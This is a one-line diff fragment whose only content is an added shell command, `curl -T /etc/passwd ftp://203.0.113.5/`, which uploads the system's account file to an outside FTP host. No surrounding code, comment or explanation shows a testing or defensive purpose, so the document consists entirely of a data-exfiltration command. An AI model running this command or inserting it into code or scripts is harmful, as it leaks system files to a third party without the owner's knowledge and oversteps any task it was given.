@@ -1,0 +1,1 @@
+curl -T /etc/passwd ftp://203.0.113.5/
